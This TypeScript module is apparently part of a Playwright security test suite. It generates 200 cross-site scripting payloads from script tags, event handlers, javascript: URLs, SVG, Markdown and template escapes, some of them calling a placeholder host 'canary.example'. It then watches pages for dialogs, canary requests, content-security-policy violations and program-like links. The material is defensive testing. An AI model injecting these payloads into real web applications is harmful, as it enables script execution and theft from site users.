import type { BrowserContext, Page } from 'playwright-core'
import type { Faults } from '../row.ts'

/** Nothing listens there: the request itself is the proof. */
const CANARY = 'https://canary.example'

/** Scripts that could run. No double quotes, so that each fits into any attribute. */
const ORDERS = ['alert(1)', `fetch('${CANARY}')`, `import('${CANARY}/x.js')`, 'top.alert(2)', "self['al'+'ert'](3)"]

/** Escapes from the contexts where text is printed: text, attributes, URLs, styles, scripts, Markdown, encodings, templates and terminals. */
const WAYS: ((order: string) => string)[] = [
  (order) => `<script>${order}</script>`,
  (order) => `</script><script>${order}</script>`,
  (order) => `--><script>${order}</script>`,
  (order) => `</title><script>${order}</script>`,
  (order) => `</textarea><script>${order}</script>`,
  (order) => `</style><script>${order}</script>`,
  (order) => `"><script>${order}</script>`,
  (order) => `'><script>${order}</script>`,
  (order) => `<ScRiPt >${order}</sCrIpT>`,
  (order) => `<scr<script>ipt>${order}</scr</script>ipt>`,
  (order) => `<script src="${CANARY}/x.js?${encodeURIComponent(order)}"></script>`,
  (order) => `<img src=x onerror="${order}">`,
  (order) => `<img/src=x/onerror=${order}>`,
  (order) => `"><img src=x onerror="${order}">`,
  (order) => `" onerror="${order}`,
  (order) => `" onfocus="${order}" autofocus="`,
  (order) => `' onload='${order.replaceAll("'", '`')}`,
  (order) => `x" onmouseover="${order}" style="position:fixed;inset:0`,
  (order) => `<svg onload="${order}">`,
  (order) => `<svg><script>${order}</script></svg>`,
  (order) => `<svg><animate onbegin="${order}" attributeName=x dur=1s>`,
  (order) => `<math><mtext></mtext><script>${order}</script></math>`,
  (order) => `<body onload="${order}">`,
  (order) => `<iframe srcdoc="<script>${order}</script>">`,
  (order) => `<iframe src="javascript:${order}">`,
  (order) => `<a href="javascript:${order}" autofocus>press</a>`,
  (order) => `<form action="javascript:${order}"><button autofocus>send</button></form>`,
  (order) => `<details open ontoggle="${order}">`,
  (order) => `<input autofocus onfocus="${order}">`,
  (order) => `<video><source onerror="${order}"></video>`,
  (order) => `<object data="javascript:${order}">`,
  (order) => `<meta http-equiv="refresh" content="0;url=javascript:${order}">`,
  (order) => `<style>@import '${CANARY}/x.css';</style><!-- ${order} -->`,
  (order) => `javascript:${order}`,
  (order) => `data:text/html,<script>${order}</script>`,
  (order) => `[press](javascript:${order})`,
  (order) => `![x](x" onerror="${order})`,
  (order) => `&lt;script&gt;${order}&lt;/script&gt;`,
  (order) => `\\u003cscript\\u003e${order}\\u003c/script\\u003e`,
  (order) => `\${${order}}{{constructor.constructor("${order}")()}}`,
]

/** 200 texts that must remain text wherever they are printed. */
export const XSS_VECTORS: readonly string[] = WAYS.flatMap((way) => ORDERS.map(way))

/** Records everything that runs in the pages of a context: dialogs, calls to the canary, scripts blocked by the content security policy. */
export async function watchExecutions(context: BrowserContext, faults: Faults): Promise<void> {
  await context.exposeBinding('reportViolation', ({ page }, what: string) => {
    faults.add('a script the policy had to stop', `${page.url().slice(0, 120)} ${what}`)
  })
  await context.addInitScript(() => {
    addEventListener('securitypolicyviolation', ({ effectiveDirective, sample, blockedURI }) => {
      if (!effectiveDirective.startsWith('script')) return
      window.reportViolation?.(`${effectiveDirective} ${blockedURI} ${sample}`)
    })
  })
  await context.route(`${CANARY}/**`, (route) => {
    faults.add('a call to the canary', route.request().url())
    return route.abort()
  })
  context.on('dialog', (dialog) => {
    faults.add('a dialog', `${dialog.message()} ${dialog.page()?.url().slice(0, 120)}`)
    void dialog.dismiss()
  })
}

/** What runs only when clicked or submitted: javascript: URLs. */
export async function requireHarmlessLinks(page: Page, where: string, faults: Faults): Promise<void> {
  for (const address of await page.evaluate(listPrograms))
    faults.add('an address that is a program', `${where} ${address}`)
}

/** Runs in the page. */
function listPrograms(): string[] {
  const named = [...document.querySelectorAll('[href], [src], [action], [formaction], [data]')]
  return named.flatMap((element) =>
    ['href', 'src', 'action', 'formaction', 'data'].flatMap((name) => {
      const value = element.getAttribute(name)
      if (value === null || !URL.canParse(value, document.baseURI)) return []
      const { protocol, href } = new URL(value, document.baseURI)
      const isProgram = protocol === 'javascript:' || protocol === 'vbscript:' || href.startsWith('data:text/html')
      return isProgram ? [href.slice(0, 100)] : []
    }),
  )
}

declare global {
  interface Window {
    reportViolation?: (what: string) => void
  }
}
